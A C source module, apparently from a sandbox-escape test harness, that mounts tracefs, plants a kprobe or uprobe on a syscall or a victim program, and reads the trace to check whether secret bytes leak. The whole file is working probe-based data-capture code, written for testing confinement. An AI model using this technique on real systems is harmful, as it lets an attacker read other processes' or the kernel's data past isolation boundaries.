/*
 * probe.c - dynamic probes by tracefs: a text file writes a program into the kernel, or into the victim.
 */
#include "../attack.h"

enum { WAIT_MS = 2000, STEP_MS = 100, LINE = 512, FILE_ROOM = 160 };

/* "... a=0x6361 b=0x... ": the bytes of these numbers. */
static int saw_numbers(const struct attack *a, const char *line)
{
	uint64_t words[4] = { 0 };
	const char *at = line;

	for (int i = 0; i < 4 && (at = strstr(at, "=0x")) != NULL; i++)
		words[i] = strtoull(at + 1, (char **)&at, 16);
	return saw(a, words, sizeof(words));
}

static int read_trace(const struct attack *a)
{
	FILE *from = fopen(OWN_MOUNT "/trace", "r");
	int result = -ENODATA;
	char line[LINE];

	if (from == NULL)
		return -errno;
	while (result != LEAKED && fgets(line, sizeof(line), from) != NULL) {
		const char *ours = strstr(line, "stolen");

		if (ours == NULL)
			continue;
		result = saw(a, line, strlen(line));
		if (result != LEAKED)
			result = saw_numbers(a, ours);
	}
	(void)fclose(from);
	return result;
}

static void describe(const struct attack *a, const char *group, char text[LINE])
{
	if (a->row->text[0] == 'u')
		(void)snprintf(text, LINE, "p:%s/stolen %s:0x%llx text=%s", group, a->target.exe, a->target.nap,
			       ARCH_PROBE_STRING);
	else
		(void)snprintf(text, LINE, "p:%s/stolen %s %s", group, ARCH_PROBE_SYSCALL, ARCH_PROBE_HELD);
}

static void remove_probe(const char *file, const char *group)
{
	int fd = open_path(file, O_WRONLY | O_APPEND);
	char text[64];

	(void)snprintf(text, sizeof(text), "-:%s/stolen", group);
	if (fd >= 0 && write(fd, text, strlen(text)) < 0)
		perror("attack: the probe stays");
}

int probe(struct attack *a)
{
	char file[FILE_ROOM], enable[FILE_ROOM], text[LINE], group[32];
	int result = mount_own("tracefs");

	if (result < 0)
		return result;
	(void)snprintf(group, sizeof(group), "attack%d", (int)getpid());
	(void)snprintf(file, sizeof(file), OWN_MOUNT "/%s", a->row->text + 2);
	(void)snprintf(enable, sizeof(enable), OWN_MOUNT "/events/%s/stolen/enable", group);
	describe(a, group, text);
	result = put_text(file, text);
	if (result < 0)
		return result;
	result = put_text(enable, "1");
	for (int waited = 0; (result == 0 || result == ALLOWED) && waited < WAIT_MS; waited += STEP_MS) {
		pause_ms(STEP_MS);
		result = read_trace(a);
		if (result == -ENODATA)
			result = 0;
	}
	(void)put_text(enable, "0");
	remove_probe(file, group);
	return result == 0 ? ALLOWED : result;
}
